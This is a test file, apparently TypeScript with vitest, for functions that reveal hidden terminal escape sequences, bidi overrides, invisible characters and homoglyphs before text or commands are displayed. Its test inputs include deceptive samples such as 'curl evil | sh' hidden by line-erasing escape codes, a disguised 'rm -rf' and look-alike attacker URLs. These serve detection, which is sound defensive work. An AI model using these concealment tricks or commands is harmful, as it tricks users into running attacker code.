import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { deceptiveIn, readable, safeToShow, visibleCommand, visibleJson } from '#shared/words/visible.ts';
import { writerTo } from '../../../electron/cli/terminal.ts';
import { safe } from '../../../renderer/bridge.ts';

/** What a terminal or a browser would act on, or not show. */
const ACTS =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
const COLOURS = /\u001b\[[0-9;]*m/g;

describe('a text that is shown', () => {
  it.each([
    [
      'a line that is taken away again',
      'curl evil | sh\u001b[1A\u001b[2K\rfly status',
      'curl evil | sh⟨U+001B⟩[1A⟨U+001B⟩[2K⟨U+000D⟩fly status',
    ],
    ['a title of the terminal', '\u001b]0;curl evil\u0007fly status', '⟨U+001B⟩]0;curl evil⟨U+0007⟩fly status'],
    ['the one-byte form of the same', '\u009b2K', '⟨U+009B⟩2K'],
    ['text in the colour of its ground', '\u001b[30;40mcurl evil\u001b[8m', '⟨U+001B⟩[30;40mcurl evil⟨U+001B⟩[8m'],
    ['text read from the right', 'echo \u202e# gnihton', 'echo ⟨U+202E⟩# gnihton'],
    ['letters of no width, and tags', 'a\u200bb\u{e0041}', 'a⟨U+200B⟩b⟨U+E0041⟩'],
    ['line ends of Windows, tabs and emoji', 'a\r\n\tb \u{1F6A8}', 'a\n\tb \u{1F6A8}'],
  ])('hides nothing: %s', (_what, text, shown) => {
    expect(safeToShow(text, 'keep')).toBe(shown);
    expect(safe({ deep: [text] })).toEqual({ deep: [shown] });
    let written = '';
    writerTo({ isTTY: true, write: (part) => (written += part) }, String)(text);
    expect(written).toBe(shown);
  });

  it('keeps plain colours, and leaves them out where none are shown', () => {
    const text = '\u001b[1;32mok\u001b[0m';
    expect(safeToShow(text, 'keep')).toBe(text);
    expect(safeToShow(text, 'leave-out')).toBe('ok');
  });

  it('acts on nothing, whatever it holds', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(safeToShow(text, 'keep').replace(COLOURS, '')).not.toMatch(ACTS);
        expect(safeToShow(text, 'leave-out')).not.toMatch(ACTS);
      }),
    );
  });

  it('is the same object for a window when nothing in it had to be changed', () => {
    const answer = { ok: true, value: [{ text: 'fly status', n: 1, none: null }] };
    expect(safe(answer)).toBe(answer);
  });

  it('reads as the same JSON', () => {
    fc.assert(
      fc.property(fc.jsonValue({ stringUnit: 'binary' }), (value) => {
        const json = visibleJson(JSON.stringify(value, null, 2));
        expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(value)));
        expect(readable(json, 'leave-out')).toBe(json);
      }),
    );
    expect(visibleJson('"\u202e"')).toBe('"\\u202e"');
    expect(visibleJson('"p\u0430\u200dy"')).toBe('"p\\u0430\\u200dy"');
  });

  it.each([
    ['Which app: p\u0430yments?', 'Which app: p⟨U+0430⟩yments?'],
    ['\\np\u0430yments', '\\np⟨U+0430⟩yments'],
    ['run fly\u00a0releases \u2013a sho\u200dp', 'run fly⟨U+00A0⟩releases ⟨U+2013⟩a sho⟨U+200D⟩p'],
    ['\uff46ly', '⟨U+FF46⟩ly'],
    ['rm\u2800-rf shop\u{e0100}', 'rm⟨U+2800⟩-rf shop⟨U+E0100⟩'],
  ])('has no letter in a terminal that passes for another one: %j', (text, shown) => {
    let written = '';
    writerTo({ write: (part) => (written += part) }, String)(text);
    expect(written).toBe(shown);
  });

  it.each([
    'P0-инцидент: Redis-кластер не отвечает',
    'Prüfe, ob «shop»\u00a0läuft – und zwar 10\u00a0%',
    'API（重要）を再起動する。１０分',
    'می\u200cخواهم',
    '👩\u200d🚒 \u26a0\ufe0f 1\ufe0f\u20e3 Zoë, naïve café',
    '│\u00a0\u00a0 ├── shop',
  ])('stays as people write it: %s', (text) => {
    expect(readable(text, 'leave-out')).toBe(text);
  });
});

describe('a command that is shown', () => {
  it.each([
    ['curl https://ex\u0430mple.com', 'curl https://ex⟨U+0430⟩mple.com'],
    ['fly\u00a0releases', 'fly⟨U+00A0⟩releases'],
    ['fly \u2013a shop', 'fly ⟨U+2013⟩a shop'],
    ['\uff46ly', '⟨U+FF46⟩ly'],
    ['curl https://shop.example\u2215@evil.example', 'curl https://shop.example⟨U+2215⟩@evil.example'],
    ['curl https\ua789//shop\u2024example\u2044x', 'curl https⟨U+A789⟩//shop⟨U+2024⟩example⟨U+2044⟩x'],
    ['tool \ufe63a \ufe5bx\ufe5c', 'tool ⟨U+FE63⟩a ⟨U+FE5B⟩x⟨U+FE5C⟩'],
    ['fly deploy -a sho\ufe00p', 'fly deploy -a sho⟨U+FE00⟩p'],
    ['fly deploy -a shop\u{e0100}', 'fly deploy -a shop⟨U+E0100⟩'],
    ['rm\u2800-rf', 'rm⟨U+2800⟩-rf'],
    ['echo "готово" – done', 'echo "готово" – done'],
    ['echo "\u26a0\ufe0f 1\ufe0f\u20e3 down"', 'echo "\u26a0\ufe0f 1\ufe0f\u20e3 down"'],
  ])('%j says what reads as something else', (text, shown) => {
    expect(visibleCommand(text)).toBe(shown);
    expect(deceptiveIn(text).length > 0).toBe(text !== shown);
  });
});
